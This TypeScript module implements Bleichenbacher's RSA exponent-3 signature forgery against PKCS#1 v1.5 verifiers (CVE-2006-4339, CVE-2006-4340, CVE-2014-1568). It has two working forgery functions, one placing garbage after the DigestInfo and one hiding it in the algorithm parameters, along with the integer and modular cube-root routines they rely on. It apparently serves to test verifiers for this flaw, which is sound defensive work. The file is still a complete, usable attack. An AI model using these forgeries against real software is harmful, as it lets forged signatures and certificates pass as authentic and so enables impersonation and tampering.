import { createHash } from 'node:crypto';
import { algorithmIdentifier, concat, fromHex, nullValue, octetString, oid, sequence, type Bytes } from './der.js';

const sha256 = '2.16.840.1.101.3.4.2.1';
const MODULUS_OCTETS = 256;

const toNumber = (octets: Uint8Array): bigint => BigInt(`0x${Buffer.from(octets).toString('hex')}`);
const toOctets = (value: bigint): Bytes => fromHex(value.toString(16).padStart(2 * MODULUS_OCTETS, '0'));
const sha256Of = (bytes: Uint8Array): Uint8Array => createHash('sha256').update(bytes).digest();

/** Where PKCS#1 v1.5 puts a DigestInfo: behind the padding, of which as little as possible is left. */
const padded = (info: Uint8Array): Bytes => concat(Uint8Array.of(0, 1, ...Array<number>(8).fill(0xff), 0), info);

/**
 * A signature by nobody: for an RSA-2048 key with exponent 3, whose cube begins with a sound DigestInfo and ends with rubbish.
 * A verifier that does not look behind the DigestInfo takes it (Bleichenbacher at CRYPTO 2006, CVE-2006-4339).
 */
export function forgeWithTrailingRubbish(signed: Uint8Array): Bytes {
  const start = padded(sequence(algorithmIdentifier(sha256, nullValue()), octetString(sha256Of(signed))));
  return toOctets(cubeRoot(toNumber(start) << BigInt(8 * (MODULUS_OCTETS - start.length))));
}

/**
 * The same with the rubbish in the parameters of the algorithm, so that the digest stands at the very end (CVE-2006-4340,
 * CVE-2014-1568). The digest of `signed` has to be odd: cubes reach only every eighth even number.
 */
export function forgeWithRubbishParameters(signed: Uint8Array): Bytes {
  const digest = octetString(sha256Of(signed));
  const info = (rubbish: Uint8Array): Bytes => sequence(sequence(oid(sha256), octetString(rubbish)), digest);
  // Any rubbish of 128 to 255 octets has headers of the same size.
  const octets = 140 + MODULUS_OCTETS - padded(info(new Uint8Array(140))).length;
  const wanted = padded(info(new Uint8Array(octets)));
  const freeBits = BigInt(8 * (octets + digest.length));
  const tailBits = BigInt(8 * digest.length);
  const root = cubeRoot(toNumber(wanted) + (1n << (freeBits - 2n)));
  const forged = ((root >> tailBits) << tailBits) | cubeRootModulo(toNumber(digest), tailBits);
  return toOctets(forged);
}

/** Whether {@link forgeWithRubbishParameters} can be had for these bytes. */
export const hasOddDigest = (signed: Uint8Array): boolean => (sha256Of(signed).at(-1)! & 1) === 1;

/** The smallest number whose cube is not below `value`. */
function cubeRoot(value: bigint): bigint {
  let low = 0n;
  let high = 1n << BigInt(Math.ceil(value.toString(2).length / 3) + 1);
  while (low < high) {
    const middle = (low + high) >> 1n;
    if (middle ** 3n < value) low = middle + 1n;
    else high = middle;
  }
  return low;
}

/** The number below 2^bits whose cube ends with the bits of `value`, which is odd: found bit by bit. */
function cubeRootModulo(value: bigint, bits: bigint): bigint {
  let root = 1n;
  for (let bit = 1n; bit < bits; bit += 1n) {
    if ((((root ** 3n) ^ value) >> bit) & 1n) root |= 1n << bit;
  }
  return root;
}
